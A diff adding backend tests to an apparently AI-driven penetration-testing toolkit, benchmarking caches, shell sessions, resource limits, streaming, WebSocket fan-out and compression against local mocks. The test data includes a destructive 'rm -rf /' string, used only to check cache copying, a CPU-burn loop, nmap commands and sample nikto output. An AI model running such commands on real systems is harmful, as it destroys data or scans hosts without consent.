+            sampler = ProcessSampler(interval=0.3, top_n=5)
+            
+            # Make every pass slow, as on a host with thousands of processes
+            original_read = sampler._read
+            def slow_read(pid, handle):
+                time.sleep(0.001)
+                return original_read(pid, handle)
+            sampler._read = slow_read
+            
+            sampler.start()
+            loop = asyncio.get_running_loop()
+            ready = await loop.run_in_executor(None, sampler.wait_ready, 10.0)
+            first = sampler.status()
+            
+            read_times = []
+            snapshots = []
+            end = time.perf_counter() + 1.5
+            while time.perf_counter() < end:
+                start = time.perf_counter()
+                snapshots.append(sampler.snapshot())
+                read_times.append(time.perf_counter() - start)
+                await asyncio.sleep(0.005)
+            later = sampler.status()
+            
+            top = snapshots[-1]
+            burner_row = next((row for row in top if row["pid"] == burner.pid), None)
+            killed = sampler.kill(burner.pid)
+            burner.wait(timeout=5)
+            
+            passed = (
+                ready and
+                later["ticks"] >= first["ticks"] + 3 and later["sampled_at"] > first["sampled_at"] and
+                burner_row is not None and burner_row["cpu_percent"] > 50 and
+                max(read_times) < later["last_tick_ms"] / 1000 / 10 and
+                killed and all(row["pid"] != burner.pid for row in sampler.snapshot())
+            )
+            
+            results.append({
+                "test": "process_sampler_cache",
+                "passed": passed,
+                "ticks": later["ticks"],
+                "tick_ms": later["last_tick_ms"],
+                "max_read_ms": max(read_times) * 1000,
+                "burner_cpu_percent": burner_row["cpu_percent"] if burner_row else None,
+                "timestamp": datetime.now().isoformat()
+            })
+            logger.info(
+                f"Process sampler: {later['last_tick_ms']:.0f}ms per pass, reads at most {max(read_times) * 1000:.3f}ms - "
+                f"{'PASSED' if passed else 'FAILED'}"
+            )
+            
+        except Exception as e:
+            logger.error(f"Process sampler test failed: {e}")
+            results.append({
+                "test": "process_sampler_cache",
+                "passed": False,
+                "error": str(e),
+                "timestamp": datetime.now().isoformat()
+            })
+        finally:
+            if sampler is not None:
+                sampler.stop()
+            if burner is not None and burner.poll() is None:
+                burner.kill()
+                burner.wait()
+        
+        self.test_results.extend(results)
+        return results
+
+    async def test_command_result_cache(self):
+        """Concurrent identical cacheable commands should share one execution"""
+        logger.info("Testing command result cache...")
+        
+        results = []
+        
+        try:
+            from core.command_cache import CommandResultCache
+            from core.command_policy import CommandPolicy
+            
+            policy = CommandPolicy(cache_ttls={"dig": 60.0})
+            executions = []
+            
+            async def execute():
+                executions.append(time.perf_counter())
+                await asyncio.sleep(0.2)
+                return {"success": True, "output": "93.184.216.34"}
+            
+            cache = CommandResultCache(max_entries=8)
+            ttl = policy.evaluate("dig example.com")["cache_ttl"]
+            concurrent = await asyncio.gather(*[
+                cache.run("dig  example.com", ttl, execute) for _ in range(10)
+            ])
+            later, info = await cache.run("dig example.com", ttl, execute)
+            
+            # Through the engine: only the run that executed counts towards resource usage
+            from core.command_engine import IntelligentCommandEngine, SecurityValidator
+            from core.process_accounting import ResourceStats
+            engine = IntelligentCommandEngine()
+            engine.security_validator = SecurityValidator(CommandPolicy(cache_ttls={"echo": 60.0}))
+            engine.result_cache = CommandResultCache(max_entries=8)
+            engine.resource_stats = ResourceStats()
+            engine_runs = [await engine.process_command("echo cached") for _ in range(3)]
+            tool_stats = engine.resource_stats.summary().get("echo", {})
+            
+            # A cached result whose spilled output was since deleted runs again rather than hand out a dead handle
+            import tempfile
+            from core.output_store import OutputStore
+            engine.security_validator = SecurityValidator(CommandPolicy(cache_ttls={"seq": 60.0}))
+            engine.output_store = OutputStore(directory=tempfile.mkdtemp(prefix="kali-cache-"),
+                                              spill_threshold=64, page_lines=10, max_entries=1)
+            spilled = await engine.process_command("seq 1 100")
+            await engine.process_command("seq 1 200")  # spills too, deleting the first output
+            respilled = await engine.process_command("seq 1 100")
+            page = await engine.output_store.read_lines(respilled["output_handle"]["handle"], start=90)
+            engine.output_store.close()
+            
+            passed = (
+                len(executions) == 1 and
+                sum(not cache_info["cache_hit"] for _, cache_info in concurrent) == 1 and
+                info["cache_hit"] and info["cache_age"] >= 0 and
+                later["output"] == "93.184.216.34" and
+                policy.evaluate("dig example.com > out.txt")["cache_ttl"] is None and
+                policy.evaluate("nmap -sV 10.0.0.1")["cache_ttl"] is None and
+                [run["cache_hit"] for run in engine_runs] == [False, True, True] and
+                (engine_runs[0]["resources"] is None or tool_stats.get("commands") == 1) and
+                spilled["output_handle"] is not None and not respilled["cache_hit"] and
+                engine.result_cache.stats()["stale"] == 1 and
+                page["lines"] == [str(i) for i in range(91, 101)]
+            )
+            
+            results.append({
+                "test": "command_result_cache",
+                "passed": passed,
+                "executions": len(executions),
+                "stats": cache.stats(),
+                "engine_resource_stats": tool_stats,
+                "timestamp": datetime.now().isoformat()
+            })
+            logger.info(f"Command result cache: {len(executions)} execution(s) for 11 requests - {'PASSED' if passed else 'FAILED'}")
+            
+        except Exception as e:
+            logger.error(f"Command result cache test failed: {e}")
+            results.append({
+                "test": "command_result_cache",
+                "passed": False,
+                "error": str(e),
+                "timestamp": datetime.now().isoformat()
+            })
+        
+        self.test_results.extend(results)
+        return results
+
+    async def test_shell_session_latency(self):
+        """Compare per-command latency of a persistent shell session against a bash spawn per command"""
+        logger.info("Testing persistent shell session latency...")
+        
+        results = []
+        engine = None
+        
+        try:
+            import os
+            from core.command_engine import IntelligentCommandEngine
+            
+            if os.name == 'nt':
+                results.append({
+                    "test": "shell_session_latency",
+                    "passed": True,
+                    "skipped": "Shell sessions require a POSIX pseudo-terminal",
+                    "timestamp": datetime.now().isoformat()
+                })
+                self.test_results.extend(results)
+                return results
+            
+            engine = IntelligentCommandEngine()
+            session_id = "latency-benchmark"
+            iterations = 100
+            
+            await engine._execute_command_async("true", session_id=session_id)  # start the shell
+            start = time.perf_counter()
+            for _ in range(iterations):
+                await engine._execute_command_async("true", session_id=session_id)
+            session_ms = (time.perf_counter() - start) / iterations * 1000
+            
+            start = time.perf_counter()
+            for _ in range(iterations):
+                await engine._execute_command_async("true")
+            spawn_ms = (time.perf_counter() - start) / iterations * 1000
+            
+            await engine._execute_command_async("cd /tmp && export KALI_SESSION_TEST=1", session_id=session_id)
+            state = await engine._execute_command_async("pwd; echo $KALI_SESSION_TEST; false", session_id=session_id)
+            # Past the terminal's 4095-byte line limit, and more input than the PTY queue holds
+            long_line = await engine._execute_command_async(f"echo {'a' * 5000} | wc -c", session_id=session_id)
+            many_lines = await engine._execute_command_async(f": {'b' * 100}\n" * 2000 + "echo done", session_id=session_id)
+            await engine.reset_session(session_id)
+            after_reset = await engine._execute_command_async("echo ${KALI_SESSION_TEST:-unset}", session_id=session_id)
+            
+            passed = (
+                session_ms < spawn_ms and
+                state["output"] == "/tmp\n1\n" and state["return_code"] == 1 and
+                long_line["output"].strip() == "5001" and long_line["return_code"] == 0 and
+                many_lines["output"] == "done\n" and
+                after_reset["output"] == "unset\n"
+            )
+            
+            results.append({
+                "test": "shell_session_latency",
+                "passed": passed,
+                "iterations": iterations,
+                "session_ms": session_ms,
+                "spawn_ms": spawn_ms,
+                "speedup": spawn_ms / session_ms if session_ms else None,
+                "timestamp": datetime.now().isoformat()
+            })
+            logger.info(f"Shell session: {session_ms:.2f}ms vs {spawn_ms:.2f}ms per spawned command - {'PASSED' if passed else 'FAILED'}")
+            
+        except Exception as e:
+            logger.error(f"Shell session test failed: {e}")
+            results.append({
+                "test": "shell_session_latency",
+                "passed": False,
+                "error": str(e),
+                "timestamp": datetime.now().isoformat()
+            })
+        finally:
+            if engine is not None:
+                await engine.shell_sessions.close_all()
+        
+        self.test_results.extend(results)
+        return results
+
+    async def test_command_resource_limits(self):
+        """Commands run under the ulimit preamble, and their wait4 rusage reaches the result and /api/commands/resources"""
+        logger.info("Testing command resource limits and accounting...")
+        
+        results = []
+        
+        try:
+            import os
+            if os.name == 'nt':
+                results.append({
+                    "test": "command_resource_limits",
+                    "passed": True,
+                    "skipped": "rlimits and wait4 rusage require a POSIX system",
+                    "timestamp": datetime.now().isoformat()
+                })
+                self.test_results.extend(results)
+                return results
+            
+            from core.command_engine import IntelligentCommandEngine
+            from core.process_accounting import ResourceLimits
+            import main
+            
+            engine = IntelligentCommandEngine()
+            engine.resource_limits = ResourceLimits(cpu=1, address_space=256 * 1024 ** 2, open_files=64)
+            burns_before = main.resource_stats.summary().get("while", {}).get("commands", 0)
+            
+            limits = await engine.process_command("ulimit -n; ulimit -Hn; ulimit -t; ulimit -v")
+            memory = await engine.process_command("python3 -c 'bytearray(512 * 1024 ** 2)'")
+            start = time.perf_counter()
+            burn = await engine.process_command("while :; do :; done")  # the shell itself spins
+            burn_seconds = time.perf_counter() - start
+            
+            usage = burn["resources"] or {}
+            reported = (await main.get_command_resources())["tools"].get("while", {})
+            
+            passed = (
+                limits["output"].split() == ["64", "64", "1", str(256 * 1024)] and
+                not memory["success"] and "MemoryError" in memory["error"] and
+                not burn["success"] and burn.get("signal") == "SIGXCPU" and burn_seconds < 10 and
+                0.9 <= usage.get("user_cpu", 0) + usage.get("system_cpu", 0) < 2 and usage.get("max_rss_kb", 0) > 0 and
+                reported.get("commands") == burns_before + 1 and
+                reported["killed_by_signal"].get("SIGXCPU", 0) >= 1 and reported["user_cpu"] >= usage["user_cpu"]
+            )
+            
+            results.append({
+                "test": "command_resource_limits",
+                "passed": passed,
+                "limits_output": limits["output"],
+                "burn_signal": burn.get("signal"),
+                "burn_seconds": burn_seconds,
+                "burn_usage": usage,
+                "timestamp": datetime.now().isoformat()
+            })
+            logger.info(
+                f"Command resource limits: CPU burn stopped by {burn.get('signal')} after {burn_seconds:.2f}s "
+                f"({usage.get('user_cpu', 0):.2f}s user CPU) - {'PASSED' if passed else 'FAILED'}"
+            )
+            
+        except Exception as e:
+            logger.error(f"Command resource limit test failed: {e}")
+            results.append({
+                "test": "command_resource_limits",
+                "passed": False,
+                "error": str(e),
+                "timestamp": datetime.now().isoformat()
+            })
+        
+        self.test_results.extend(results)
+        return results
+
+    async def test_ai_connection_pooling(self):
+        """Benchmark pooled provider sessions against a session per request on a local mock API"""
+        logger.info("Testing AI provider connection pooling...")
+        
+        results = []
+        runner = None
+        
+        try:
+            from aiohttp import web
+            from core.deepseek_agent import DeepSeekProvider
+            from utils.http_pool import HTTPSessionPool
+            
+            client_ports = set()
+            
+            async def chat_completions(request):
+                client_ports.add(request.transport.get_extra_info('peername')[1])
+                return web.json_response({
+                    "choices": [{"message": {"role": "assistant", "content": "nmap -sV 127.0.0.1"}}]
+                })
+            
+            app = web.Application()
+            app.router.add_post('/v1/chat/completions', chat_completions)
+            runner = web.AppRunner(app)
+            await runner.setup()
+            site = web.TCPSite(runner, '127.0.0.1', 0)
+            await site.start()
+            port = site._server.sockets[0].getsockname()[1]
+            config = {"api_key": "test", "base_url": f"http://127.0.0.1:{port}/v1"}
+            url = f"{config['base_url']}/chat/completions"
+            requests_count = 200
+            
+            # Baseline: the previous behaviour, one ClientSession per request
+            start = time.perf_counter()
+            for _ in range(requests_count):
+                async with aiohttp.ClientSession() as session:
+                    async with session.post(url, json={}) as response:
+                        await response.json()
+            unpooled_ms = (time.perf_counter() - start) * 1000 / requests_count
+            unpooled_connections = len(client_ports)
+            
+            client_ports.clear()
+            pool = HTTPSessionPool()
+            provider = DeepSeekProvider(pool)
+            start = time.perf_counter()
+            for _ in range(requests_count):
+                await provider.process_query("scan localhost", config)
+            pooled_ms = (time.perf_counter() - start) * 1000 / requests_count
+            pooled_connections = len(client_ports)
+            await pool.close()
+            
+            passed = pooled_connections == 1 and pooled_ms < unpooled_ms
+            
+            results.append({
+                "test": "ai_connection_pooling",
+                "passed": passed,
+                "unpooled_ms_per_request": unpooled_ms,
+                "pooled_ms_per_request": pooled_ms,
+                "unpooled_connections": unpooled_connections,
+                "pooled_connections": pooled_connections,
+                "timestamp": datetime.now().isoformat()
+            })
+            logger.info(
+                f"Connection pooling: {unpooled_ms:.2f}ms -> {pooled_ms:.2f}ms per request, "
+                f"{unpooled_connections} -> {pooled_connections} connections - {'PASSED' if passed else 'FAILED'}"
+            )
+            
+        except Exception as e:
+            logger.error(f"Connection pooling test failed: {e}")
+            results.append({
+                "test": "ai_connection_pooling",
+                "passed": False,
+                "error": str(e),
+                "timestamp": datetime.now().isoformat()
+            })
+        finally:
+            if runner:
+                await runner.cleanup()
+        
+        self.test_results.extend(results)
+        return results
+
+    async def test_ai_stream_parsing(self):
+        """Parse a server-sent completion stream whose events arrive split across network reads"""
+        logger.info("Testing AI completion stream parsing...")
+        
+        results = []
+        runner = None
+        pool = None
+        
+        try:
+            from aiohttp import web
+            from core.deepseek_agent import DeepSeekProvider, PooledProvider, UnifiedAIAgent
+            from utils.http_pool import HTTPSessionPool
+            
+            deltas = ["Run ", "`nmap -sV`", " — héllo ✓", "\n"]
+            events = [f"data: {json.dumps({'choices': [{'delta': {'content': delta}}]}, ensure_ascii=False)}\n\n"
+                      for delta in deltas]
+            events.insert(1, ": keep-alive\n\nevent: ping\nid: 7\n\n")  # comments and non-data fields
+            events.insert(3, 'data: {"choices": [{"delta":\ndata:  {"content": "\\n"}}]}\n\n')  # one event, two data lines
+            events.insert(4, 'data: {"choices": [{"delta": {"role": "assistant"}}]}\n\n')  # no content
+            body = "".join(events).encode("utf-8") + b"data: [DONE]\n\n" + \
+                f"data: {json.dumps({'choices': [{'delta': {'content': 'after done'}}]})}\n\n".encode("utf-8")
+            
+            async def chat_completions(request):
+                response = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
+                await response.prepare(request)
+                # Odd-sized writes split events mid-line, mid-JSON and inside multi-byte characters
+                try:
+                    for offset in range(0, len(body), 7):
+                        await response.write(body[offset:offset + 7])
+                        await asyncio.sleep(0.001)
+                    await response.write_eof()
+                except ConnectionResetError:
+                    pass  # the client hangs up once it reads [DONE]
+                return response
+            
+            app = web.Application()
+            app.router.add_post('/v1/chat/completions', chat_completions)
+            runner = web.AppRunner(app)
+            await runner.setup()
+            site = web.TCPSite(runner, '127.0.0.1', 0)
+            await site.start()
+            port = site._server.sockets[0].getsockname()[1]
+            
+            # The stream outlasts the overall request timeout, which only bounds ordinary requests
+            pool = HTTPSessionPool(request_timeout=0.02)
+            provider = DeepSeekProvider(pool)
+            start = time.perf_counter()
+            received = [delta async for delta in provider.stream_query(
+                "scan localhost", {"api_key": "test", "base_url": f"http://127.0.0.1:{port}/v1"}
+            )]
+            stream_seconds = time.perf_counter() - start
+            
+            # A provider without a streaming endpoint falls back to one completion; its errors must surface
+            class FailingProvider:
+                async def process_query(self, prompt, config):
+                    raise aiohttp.ClientConnectionError("503 Service Unavailable")
+            
+            agent = UnifiedAIAgent()
+            agent.configs["deepseek"] = {"api_key": "test"}
+            agent.providers["deepseek"] = FailingProvider()
+            try:
+                fallback = [delta async for delta in agent.stream_query("scan localhost", "deepseek", use_cache=False)]
+                fallback_error = None
+            except RuntimeError as e:
+                fallback_error = str(e)
+            
+            try:
+                PooledProvider()
+                abstract = False
+            except TypeError:
+                abstract = True
+            
+            passed = (
+                received == ["Run ", "`nmap -sV`", "\n", " — héllo ✓", "\n"] and stream_seconds > pool.request_timeout and
+                fallback_error is not None and "503" in fallback_error and
+                abstract
+            )
+            
+            results.append({
+                "test": "ai_stream_parsing",
+                "passed": passed,
+                "deltas": received,
+                "body_bytes": len(body),
+                "stream_seconds": stream_seconds,
+                "fallback_error": fallback_error,
+                "timestamp": datetime.now().isoformat()
+            })
+            logger.info(f"AI stream parsing: {len(received)} deltas from {len(body)} bytes - {'PASSED' if passed else 'FAILED'}")
+            
+        except Exception as e:
+            logger.error(f"AI stream parsing test failed: {e}")
+            results.append({
+                "test": "ai_stream_parsing",
+                "passed": False,
+                "error": str(e),
+                "timestamp": datetime.now().isoformat()
+            })
+        finally:
+            if pool:
+                await pool.close()
+            if runner:
+                await runner.cleanup()
+        
+        self.test_results.extend(results)
+        return results
+
+    async def test_ai_response_cache(self):
+        """Memory hits, disk hits after a restart and TTL expiry of the AI response cache"""
+        logger.info("Testing AI response cache...")
+        
+        results = []
+        cache = None
+        
+        try:
+            import os
+            import tempfile
+            from core.deepseek_agent import UnifiedAIAgent
+            from core.response_cache import LLMResponseCache, response_cache
+            
+            path = os.path.join(tempfile.mkdtemp(prefix="kali-ai-cache-"), "responses.db")
+            response = {"choices": [{"message": {"role": "assistant", "content": "nmap -sV 127.0.0.1"}}]}
+            key = LLMResponseCache.make_key("deepseek", "deepseek-chat", "scan   localhost\n")
+            lookups = 1000
+            
+            cache = LLMResponseCache(path=path, ttl=60)
+            await cache.set(key, response)
+            start = time.perf_counter()
+            for _ in range(lookups):
+                hit = await cache.get(key)
+            memory_hit_us = (time.perf_counter() - start) / lookups * 1e6
+            
+            # Callers get a copy: mutating it must not change the cached entry
+            hit["choices"][0]["message"]["content"] = "rm -rf /"
+            response["choices"].clear()
+            unchanged = (await cache.get(key))["choices"][0]["message"]["content"] == "nmap -sV 127.0.0.1"
+            cache.close()
+            
+            # A new instance on the same file starts with an empty memory tier
+            cache = LLMResponseCache(path=path, ttl=60)
+            await cache.get("unknown")  # opens the store
+            start = time.perf_counter()
+            from_disk = await cache.get(LLMResponseCache.make_key("deepseek", "deepseek-chat", "scan localhost"))
+            disk_hit_us = (time.perf_counter() - start) * 1e6
+            await cache.get(key)
+            counters = dict(cache.counters)
+            cache.close()
+            
+            cache = LLMResponseCache(path=path, ttl=0.2)
+            await cache.set(key, {"choices": []})
+            await asyncio.sleep(0.3)
+            expired = await cache.get(key) is None
+            cache.close()
+            cache = LLMResponseCache(path=path, ttl=0.2)
+            expired_on_disk = await cache.get(key) is None
+            
+            shared = UnifiedAIAgent().response_cache is UnifiedAIAgent().response_cache is response_cache
+            
+            passed = (
+                unchanged and
+                from_disk is not None and from_disk["choices"][0]["message"]["content"] == "nmap -sV 127.0.0.1" and
+                counters["disk_hits"] == 1 and counters["memory_hits"] == 1 and
+                expired and expired_on_disk and
+                memory_hit_us < disk_hit_us and
+                (response_cache is None or shared)
+            )
+            
+            results.append({
+                "test": "ai_response_cache",
+                "passed": passed,
+                "memory_hit_us": memory_hit_us,
+                "disk_hit_us": disk_hit_us,
+                "timestamp": datetime.now().isoformat()
+            })
+            logger.info(
+                f"AI response cache: memory hit {memory_hit_us:.1f}us, disk hit after restart {disk_hit_us:.0f}us - "
+                f"{'PASSED' if passed else 'FAILED'}"
+            )
+            
+        except Exception as e:
+            logger.error(f"AI response cache test failed: {e}")
+            results.append({
+                "test": "ai_response_cache",
+                "passed": False,
+                "error": str(e),
+                "timestamp": datetime.now().isoformat()
+            })
+        finally:
+            if cache is not None:
+                cache.close()
+        
+        self.test_results.extend(results)
+        return results
+
+    async def test_broadcast_fanout(self):
+        """Broadcast to hundreds of fake clients, one of them stalled, through the per-client send queues"""
+        logger.info("Testing WebSocket broadcast fan-out...")
+        
+        results = []
+        manager = None
+        
+        try:
+            from utils.websocket_manager import ConnectionManager
+            
+            manager = ConnectionManager(queue_size=64, send_timeout=1.0, block_timeout=5.0)
+            clients = [FakeWebSocket() for _ in range(500)]
+            stalled = FakeWebSocket(stalled=True)
+            for websocket in clients + [stalled]:
+                await manager.connect(websocket)
+            stalled_client = manager.clients[stalled]
+            
+            broadcasts = 50
+            start = time.perf_counter()
+            for i in range(broadcasts):
+                await manager.broadcast({"type": "command_result", "payload": {"output": "x" * 200, "seq": i}})
+            result_ms = (time.perf_counter() - start) * 1000 / broadcasts
+            
+            # Far more metrics than the stalled client's queue holds: the oldest are dropped, nobody waits
+            start = time.perf_counter()
+            for i in range(200):
+                await manager.broadcast({"type": "system_status", "payload": {"cpu": i}})
+                await asyncio.sleep(0)  # metrics arrive spaced out, giving the writers a turn
+            metrics_ms = (time.perf_counter() - start) * 1000 / 200
+            
+            await asyncio.sleep(0.2)
+            # Results are never dropped; metrics only when a client falls behind
+            delivered = all(
+                len(websocket.frames) + manager.clients[websocket].stats["dropped"] == broadcasts + 200 and
+                len(websocket.frames) >= broadcasts
+                for websocket in clients
+            )
+            dropped = stalled_client.stats["dropped"]
+            
+            await asyncio.sleep(1.2)  # past the send timeout
+            reaped = stalled not in manager.clients and stalled.closed
+            
+            passed = delivered and dropped > 0 and reaped and len(manager.clients) == len(clients)
+            
+            results.append({
+                "test": "broadcast_fanout",
+                "passed": passed,
+                "clients": len(clients) + 1,
+                "result_broadcast_ms": result_ms,
+                "metrics_broadcast_ms": metrics_ms,
+                "stalled_client_dropped": dropped,
+                "stalled_client_reaped": reaped,
+                "timestamp": datetime.now().isoformat()
+            })
+            logger.info(
+                f"Broadcast fan-out: {result_ms:.2f}ms per broadcast to {len(clients) + 1} clients, "
+                f"{dropped} metrics dropped for the stalled client - {'PASSED' if passed else 'FAILED'}"
+            )
+            
+        except Exception as e:
+            logger.error(f"Broadcast fan-out test failed: {e}")
+            results.append({
+                "test": "broadcast_fanout",
+                "passed": False,
+                "error": str(e),
+                "timestamp": datetime.now().isoformat()
+            })
+        finally:
+            if manager is not None:
+                await manager.close()
+        
+        self.test_results.extend(results)
+        return results
+
+    async def test_delta_status_frames(self):
+        """Compare full system status frames against versioned change-only frames"""
+        logger.info("Testing delta-encoded status frames...")
+        
+        results = []
+        
+        try:
+            from core.network_monitor import NetworkMonitor
+            from utils.delta import DeltaStream, apply_delta
+            from utils.websocket_manager import encode_message
+            
+            monitor = NetworkMonitor()
+            loop = asyncio.get_running_loop()
+            await loop.run_in_executor(None, monitor._sample)  # CPU and throughput baselines
+            
+            stream = DeltaStream()
+            client_state = client_state_version = None
+            full_bytes = delta_bytes = 0
+            exact = True
+            samples = 10
+            
+            for _ in range(samples):
+                await asyncio.sleep(0.2)
+                status = await loop.run_in_executor(None, monitor._sample)
+                full_bytes += len(encode_message({"type": "system_status", "payload": status}))
+                
+                frame = stream.encode(status)
+                if frame is None:
+                    continue
+                encoded = encode_message({"type": "system_status", "payload": frame})
+                delta_bytes += len(encoded)
+                
+                # What a dashboard does with the frame
+                frame = json.loads(encoded)["payload"]
+                if "snapshot" in frame:
+                    client_state = frame["snapshot"]
+                else:
+                    exact = exact and frame["base"] == client_state_version
+                    apply_delta(client_state, frame["delta"], frame["removed"])
+                client_state_version = frame["version"]
+                exact = exact and client_state == json.loads(json.dumps(status))
+            
+            reduction = 1 - delta_bytes / full_bytes if full_bytes else 0.0
+            passed = exact and reduction > 0.5
+            
+            results.append({
+                "test": "delta_status_frames",
+                "passed": passed,
+                "samples": samples,
+                "full_bytes": full_bytes,
+                "delta_bytes": delta_bytes,
+                "reduction": reduction,
+                "reconstructed_exactly": exact,
+                "timestamp": datetime.now().isoformat()
+            })
+            logger.info(
+                f"Delta status frames: {full_bytes} -> {delta_bytes} bytes over {samples} samples "
+                f"({reduction:.0%} smaller) - {'PASSED' if passed else 'FAILED'}"
+            )
+            
+        except Exception as e:
+            logger.error(f"Delta status frame test failed: {e}")
+            results.append({
+                "test": "delta_status_frames",
+                "passed": False,
+                "error": str(e),
+                "timestamp": datetime.now().isoformat()
+            })
+        
+        self.test_results.extend(results)
+        return results
+
+    async def test_serialization_benchmark(self):
+        """Microbenchmark the wire codecs on representative command_result and scan_result payloads"""
+        logger.info("Testing wire protocol serialization...")
+        
+        results = []
+        
+        try:
+            from utils.wire_protocol import CODECS, JSON_CODEC, MessagePackCodec, MSGPACK_AVAILABLE, ORJSON_AVAILABLE
+            
+            output = "".join(
+                f"{port}/tcp   open  http    nginx 1.18.0 (Ubuntu)\t\x1b[32m\"ok\"\x1b[0m\n" for port in range(20000)
+            )
+            payloads = {
+                "command_result": {
+                    "type": "command_result",
+                    "payload": {
+                        "success": True, "output": output, "error": "", "return_code": 0,
+                        "execution_time": 12.5, "command": "nmap -sV -p- 10.0.0.5"
+                    }
+                },
+                "scan_result": {
+                    "type": "scan_result",
+                    "payload": {
+                        "scan_id": "3f1c", "status": "completed", "progress": 100, "completed": True,
+                        "open_ports": list(range(1, 400)), "duration": 93.2,
+                        "vulnerabilities": [{
+                            "id": f"vuln_{i}", "name": "Outdated SSH server", "severity": "medium",
+                            "description": "OpenSSH version is vulnerable to user enumeration", "port": 22,
+                            "service": "ssh", "cve_id": "CVE-2018-15473", "cvss_score": 5.3,
+                            "recommendation": "Upgrade OpenSSH", "discovered_at": "2024-01-01T00:00:00"
+                        } for i in range(500)]
+                    }
+                }
+            }
+            
+            codecs = {"stdlib_json": None, **{name: codec for name, codec in CODECS.items()}}
+            iterations = 20
+            timings = {}
+            round_trip = True
+            
+            for payload_name, message in payloads.items():
+                for codec_name, codec in codecs.items():
+                    if codec is None:
+                        encode = lambda m: json.dumps(m, separators=(",", ":"), ensure_ascii=False)
+                        decode = json.loads
+                    else:
+                        encode, decode = codec.encode, codec.decode
+                    start = time.perf_counter()
+                    for _ in range(iterations):
+                        frame = encode(message)
+                    encode_ms = (time.perf_counter() - start) * 1000 / iterations
+                    start = time.perf_counter()
+                    for _ in range(iterations):
+                        decoded = decode(frame)
+                    decode_ms = (time.perf_counter() - start) * 1000 / iterations
+                    round_trip = round_trip and decoded == message
+                    timings[f"{payload_name}/{codec_name}"] = {
+                        "encode_ms": encode_ms, "decode_ms": decode_ms, "bytes": len(frame)
+                    }
+            
+            def total(key):
+                return timings[key]["encode_ms"] + timings[key]["decode_ms"]
+            
+            # The negotiated codecs must beat the stdlib encoder they replace
+            faster = all(
+                total(f"{payload_name}/{name}") < total(f"{payload_name}/stdlib_json")
+                for payload_name in payloads for name in CODECS
+                if name != JSON_CODEC.name or ORJSON_AVAILABLE
+            )
+            passed = round_trip and faster
+            
+            results.append({
+                "test": "serialization_benchmark",
+                "passed": passed,
+                "orjson": ORJSON_AVAILABLE,
+                "msgpack": MSGPACK_AVAILABLE,
+                "timings": timings,
+                "timestamp": datetime.now().isoformat()
+            })
+            for key, timing in timings.items():
+                logger.info(
+                    f"  {key}: encode {timing['encode_ms']:.2f}ms, decode {timing['decode_ms']:.2f}ms, "
+                    f"{timing['bytes']} bytes"
+                )
+            logger.info(f"Serialization benchmark - {'PASSED' if passed else 'FAILED'}")
+            
+        except Exception as e:
+            logger.error(f"Serialization benchmark failed: {e}")
+            results.append({
+                "test": "serialization_benchmark",
+                "passed": False,
+                "error": str(e),
+                "timestamp": datetime.now().isoformat()
+            })
+        
+        self.test_results.extend(results)
+        return results
+
+    async def test_frame_compression(self):
+        """Broadcast a large tool output and a small chunk to two clients that negotiated compression"""
+        logger.info("Testing WebSocket frame compression...")
+        
+        results = []
+        manager = None
+        
+        try:
+            import zlib
+            from utils.compression import COMPRESSED_FRAME_PREFIX
+            from utils.websocket_manager import ConnectionManager
+            
+            # nikto-style output: a few line shapes repeated thousands of times
+            output = "".join(
+                f"+ /admin/{i}.php: Directory indexing found. OSVDB-{3000 + i % 50}: /icons/ folder is listable\n"
+                for i in range(20000)
+            )
+            manager = ConnectionManager()
+            clients = [FakeWebSocket(["kali.json+deflate"]) for _ in range(2)]
+            plain = FakeWebSocket(["kali.json"])
+            for websocket in clients + [plain]:
+                await manager.connect(websocket)
+            
+            # Event loop responsiveness while the large frame is compressed
+            loop = asyncio.get_running_loop()
+            lag = 0.0
+            start = time.perf_counter()
+            await manager.broadcast({"type": "command_result", "payload": {"output": output}})
+            await manager.broadcast({"type": "command_output_chunk", "payload": {"chunk": "ls\n"}})
+            while (any(len(websocket.frames) < 2 for websocket in clients + [plain]) and
+                   time.perf_counter() - start < 10):
+                tick = loop.time()
+                await asyncio.sleep(0.001)
+                lag = max(lag, loop.time() - tick - 0.001)
+            
+            # Both compressing clients get the same compressed frame, deflated once
+            received = [websocket.frames for websocket in clients]
+            decompressed = [
+                json.loads(zlib.decompress(large[len(COMPRESSED_FRAME_PREFIX):]))
+                for large, _ in received
+                if isinstance(large, bytes) and large.startswith(COMPRESSED_FRAME_PREFIX)
+            ]
+            stats = manager.compressor.status()["types"]["command_result"]
+            
+            passed = (
+                all(websocket.subprotocol == "kali.json+deflate" for websocket in clients) and
+                len(decompressed) == len(clients) and
+                all(message["payload"]["output"] == output for message in decompressed) and
+                received[0][0] == received[1][0] and
+                all(isinstance(small, str) for _, small in received) and
+                all(isinstance(frame, str) for frame in plain.frames) and
+                json.loads(plain.frames[0])["payload"]["output"] == output and
+                stats["frames"] == 1 and stats["ratio"] > 5 and stats["offloaded"] == 1
+            )
+            
+            results.append({
+                "test": "frame_compression",
+                "passed": passed,
+                "clients": len(clients) + 1,
+                "raw_bytes": stats["bytes_in"],
+                "compressed_bytes": stats["bytes_out"],
+                "ratio": stats["ratio"],
+                "cpu_ms": stats["cpu_ms"],
+                "max_loop_lag_ms": lag * 1000,
+                "timestamp": datetime.now().isoformat()
+            })
+            logger.info(
+                f"Frame compression: {stats['bytes_in']} -> {stats['bytes_out']} bytes "
+                f"({stats['ratio']:.1f}x, {stats['cpu_ms']:.1f}ms CPU for {len(clients)} clients, "
+                f"max loop lag {lag * 1000:.1f}ms) - {'PASSED' if passed else 'FAILED'}"
+            )
+            
+        except Exception as e:
+            logger.error(f"Frame compression test failed: {e}")
+            results.append({
+                "test": "frame_compression",
+                "passed": False,
+                "error": str(e),
+                "timestamp": datetime.now().isoformat()
+            })
+        finally:
+            if manager is not None:
+                await manager.close()
+        
+        self.test_results.extend(results)
+        return results
+
     async def run_all_tests(self):
         """Run all tests and generate comprehensive report"""
         logger.info("🚀 Starting comprehensive backend testing...")
@@ -359,8 +2204,31 @@ class BackendTester:
         await self.test_health_endpoint()
         await self.test_natural_language_workflows()
         await self.test_command_execution()
+        await self.test_streaming_command_execution()
         await self.test_security_tools_integration()
         await self.test_vulnerability_scanner()
+        await self.test_network_monitor_sampling()
+        await self.test_port_scanner_throughput()
+        await self.test_workflow_dag_scheduling()
+        await self.test_concurrent_workflow_runs()
+        await self.test_metasploit_session_pool()
+        await self.test_command_admission_control()
+        await self.test_output_spill_paging()
+        await self.test_command_policy_benchmark()
+        await self.test_incremental_output_analysis()
+        await self.test_command_prediction_model()
+        await self.test_command_history_store()
